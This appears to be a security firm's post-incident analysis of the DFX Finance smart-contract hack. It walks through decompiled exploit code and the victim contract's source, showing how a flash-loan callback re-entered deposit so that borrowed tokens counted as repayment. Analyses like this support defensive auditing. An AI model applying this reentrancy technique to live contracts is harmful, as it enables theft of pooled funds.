From the Source: Analysis of DFX Finance Attack



Security Operation / Audit


An analysis of the DFX Finance attack, focusing on the smart contract code. The attacker exploited a vulnerability in the Curve contract that allowed them to re-enter the deposit function and deposit borrowed tokens, which were then treated as repayment. The attack demonstrates the importance of carefully evaluating the impact of each callback and checking dependent state variables to avoid similar problems.


attacker address:0x14c19962e4a899f29b3dd9ff52ebfb5e4cb9a067

transaction hash:0x6bfd9e286e37061ed279e4f139fbc03c8bd707a2cdd15f7260549052cbba79b7

exploit smart contract:0x6cfa86a352339e766ff1ca119c8c40824f41f22d

parameters of this transaction and internal transaction:


a packet of code and Chinese passage:!At0_LwVPvookh6ApCW53C1CM9ixVIg?e=ewzgtq

How to exploit

See the entire decompiled code:

First, the attacker invoked the exploit contract that sets preventive requirements to avert bots front-run his transaction. The decompiled code is simplified, and we ignore some check statements.

function 0xb727281f(uint256 varg0, uint256 varg1) public payable { require(4 + ( — 4)4 >= 64); require(msg.sender == 0x14c19962e4a899f29b3dd9ff52ebfb5e4cb9a067); stor_5 = varg0; stor_9 = varg1; v0, v1 = stor_0_0_19.viewDeposit(stor_5).gas(msg.gas); RETURNDATACOPY(v1, 0, RETURNDATASIZE()); MEM[64] = v1 + (RETURNDATASIZE() + 31 & ~0x1f); if (1 < MEM[v1 + MEM[v1 + 32]]) { if (0 < MEM[v1 + MEM[v1 + 32]]) { 0x34d3(); exit; } } revert(Panic(50)); }

The statement v0, v1 = stor_0_0_19.viewDeposit(stor_5).gas(msg.gas); invokes viewDeposit function, which locates at Curve/contracts/Curve.sol#550

/// @notice view deposits andcurves minted a given deposit would return /// @param _deposit the full amount of stablecoins you want to deposit. Divided evenly according to the /// prevailing proportions of the numeraire assets of the pool /// @return (the amount of curves you receive in return for your deposit, /// the amount deposited for each numeraire) function viewDeposit(uint256 _deposit) external view transactable returns (uint256, uint256[] memory) { // curvesToMint_, depositsToMake_ return ProportionalLiquidity.viewProportionalDeposit(curve, _deposit); }

roportionalLiquidity.viewProportionalDeposit is one of the functions in the library contract at Curve/contracts/ProportionalLiquidity.sol#78 whose first parameter curve is a complex struct combining an assortment of curve contract attributes. The second is the planneddeposited balance. We skim these details, and the reader needs to see that the purpose of this part is to view how many tokens are exchanged if he deposits another token.

Then, the attacker contract executed the following code after many checks that assure the transaction wound success.

function 0x34d3() private { v0 = 0x3774(stor_9, stor_7); v1 = 0x37e1(1000, v0); v2 = _SafeSub(v1, stor_7); v3 = 0x3774(stor_9, _uniswapV3FlashCallback); v4 = 0x37e1(1000, v3); v5 = _SafeSub(v4, _uniswapV3FlashCallback); require(stor_0_0_19.code.size); v6 = stor_0_0_19.flash(address(this), v2, v5,0xcallflash’).gas(msg.gas); require(v6); // checks call status, propagates error data on error require(stor_0_0_19.code.size); v7, v8 = stor_0_0_19.balanceOf(address(this)).gas(msg.gas); require(v7); // checks call status, propagates error data on error MEM[64] = MEM[64] + (RETURNDATASIZE() + 31 & ~0x1f); require(MEM[64] + RETURNDATASIZE() — MEM[64] >= 32); 0x43bd(v8); require(stor_0_0_19.code.size); v9 = stor_0_0_19.withdraw(v8, 0xf285c0bd068).gas(msg.gas); require(v9); // checks call status, propagates error data on error return ; }

Functions 0x3774 and0x37e1 dispose with arithmetical operation. we focus the critical step v6 = stor_0_0_19.flash(address(this), v2, v5, ‘0xcallflash’).gas(msg.gas); and the callee is as follows:

function flash( address recipient, uint256 amount0, uint256 amount1, bytes calldata data ) external transactable noDelegateCall isNotEmergency { uint256 fee = curve.epsilon.mulu(1e18); require(IERC20(derivatives[0]).balanceOf(address(this)) > 0, 'Curve/token0-zero-liquidity-depth'); require(IERC20(derivatives[1]).balanceOf(address(this)) > 0, 'Curve/to ken1-zero-liquidity-depth'); uint256 fee0 = FullMath.mulDivRoundingUp(amount0, fee, 1e18); uint256 fee1 = FullMath.mulDivRoundingUp(amount1, fee, 1e18); uint256 balance0Before = IERC20(derivatives[0]).balanceOf(address(this)); uint256 balance1Before = IERC20(derivatives[1]).balanceOf(address(this)); if (amount0 > 0) IERC20(derivatives[0]).safeTransfer(recipient, amount0); if (amount1 > 0) IERC20(derivatives[1]).safeTransfer(recipient, amount1); IFlashCallback(msg.sender).flashCallback(fee0, fee1, data); uint256 balance0After =IERC20(derivatives[0]).balanceOf(address(this)); uint256 balance1After = IERC20(derivatives[1]).balanceOf(address(this)); require(balance0Before.add(fee0) <= balance0After, 'Curve/insufficient-token0-returned'); require(balance1Before.add(fee1) <= balance1After, 'Curve/insufficient-token1-returned'); // sub is safe because we know balanceAfter is gt balanceBefore by at least fee uint256 paid0 = balance0After - balance0Before; uint256 paid1 = balance1After - balance1Before; IERC20(derivatives[0]).safeTransfer(owner, paid0); IERC20(derivatives[1]).safeTransfer(owner, paid1); emit Flash(msg.sender, recipient, amount0, amount1, paid0, paid1); }

It is a standard flash loan implementation. What is noteworthy is the line IFlashCallback(msg.sender).flashCallback(fee0, fee1, data); , a callback to the attacker contract whereby it runs the following code( also simplified).

function 0xc3924ed6(uint256 varg0, uint256 varg1, uint256 varg2) public payable { v0 = stor_0_0_19.deposit(stor_5, 0xf285c0bd068).gas(msg.gas);

Attacker directly reenter the function deposit, with the specfic parameters deposit(uint256 200_000_000_000_000_000_000_000, 16_666_017_386_600) . In the function body, it calls the function of the library contract.

/// @notice deposit into the pool with no slippage from the numeraire assets the pool supports /// @param _deposit the full amount you want to deposit into the pool which will be divided up evenly amongst /// the numeraire assets of the pool /// @return (the amount of curves you receive in return for your deposit, /// the amount deposited for each numeraire) function deposit(uint256 _deposit, uint256 _deadline) external deadline(_deadline) transactable nonReentrant noDelegateCall notInWhitelistingStage isNotEmergency returns (uint256, uint256[] memory) { // (curvesMinted_, deposits_) returnProportionalLiquidity.proportionalDeposit(curve, _deposit); }
function proportionalDeposit(Storage.Curve storage curve, uint256 _deposit) external returns (uint256 curves_, uint256[] memory) { int128 __deposit = _deposit.divu(1e18); uint256 _length = curve.assets.length; uint256[] memory deposits_ = new uint256[](_length); (int128 _oGLiq, int128[] memory _oBals) = getGrossLiquidityAndBalancesForDeposit(curve); // Needed to calculate liquidity invariant // (int128 _oGLiqProp, int128[] memory _oBalsProp) = getGrossLiquidityAndBalances(curve); // No liquidity, oracle sets the ratio if (_oGLiq == 0) { for (uint256 i = 0; i < _length; i++) { // Variable here to avoid stack-too-deep errors int128 _d = __deposit.mul(curve.weights[i]); deposits_[i] = Assimilators.intakeNumeraire(curve.assets[i].addr, _d.add(ONE_WEI)); } } else { // We already have an existing pool ratio // which must be respected int128 _multiplier = __deposit.div(_oGLiq); uint256 _baseWeight = curve.weights[0].mulu(1e18); uint256 _quoteWeight = curve.weights[1].mulu(1e18); for (uint256 i = 0; i < _length; i++) { deposits_[i] = Assimilators.intakeNumeraireLPRatio( curve.assets[i].addr, _baseWeight, _quoteWeight, _oBals[i].mul(_multiplier).add(ONE_WEI) ); } } int128 _totalShells = curve.totalSupply.divu(1e18); int128 _newShells = __deposit; if (_totalShells > 0) { _newShells = __deposit.mul(_totalShells); _newShells = _newShells.div(_oGLiq); } mint(curve, msg.sender, curves_ = _newShells.mulu(1e18)); return (curves_, deposits_); }

The function getGrossLiquidityAndBalancesForDeposit(curve)calculates previous gross liquidity and the summation of assets the contract control. The attacker contract deposit tokens it borrowed from flash loan after calculating the expected deposit balance and LP exchange ratio.

Here are two logs when borrowing tokens.{“from”:”0x6cfa86a352339e766ff1ca119c8c40824f41f22d”“to”:”0x46161158b1947d9149e066d6d31af1283b2d377c”“value”:”2325581395325581"}


Subsequently, the curve funding pool mints token to the attacker contract.{“from”:”0x0000000000000000000000000000000000000000"“to”:”0x6cfa86a352339e766ff1ca119c8c40824f41f22d”“value”:”387023837944937266146579"}

The balances of flash loan contract assets before and after the callback of it:balance0Before = 0x000000000000000000000000000000000000000000000000002463e31a1c492cbalance1Before = 0x00000000000000000000000000000000000000000000000000000068516c41ac

balance0After = 0x00000000000000000000000000000000000000000000000000247093e6d40a1dbalance1After = 0x00000000000000000000000000000000000000000000000000000068752f87ac

paid0 = 0xcb0ccb7c0f1paid1 = 0x23c34600

The return tokens are starkly minimal compared to the following borrowed tokens. It demonstrates that the attacker got a large of money from nearly nothing. It retained two tokens, respectively, 0x829b9038770ab and 0x1700f05c00. Repeated the attack process, the attacker exhausted the fundingpool.{“from”:”0x46161158b1947d9149e066d6d31af1283b2d377c”“to”:”0x6cfa86a352339e766ff1ca119c8c40824f41f22d”“value”:”0x83669d03f319c”}Summary: the procedure of this hack event is relevantly simple. The curve contract should not allow reentrance because it did not consider the balance change from its other functions. Generally, carefully evaluate the impact of each callback and check the dependent state variable, whether or not tempered can help avoid such a problem. It is obscure that the flash loan contract fetches balances through a proxy contract and calculates the exchange rate through its ABI-encoded parameters executed by another contract, resulting in a complicated call andreturn.

The core of the attack is that in the callback function of the curve flash loan, the attacker deposits the borrowed token into the curve contract. Since the curve contract obtains the balance through balance(curve), the deposited token is also regarded as repayment.

Share this article

Tell usabout your projects
Contact Us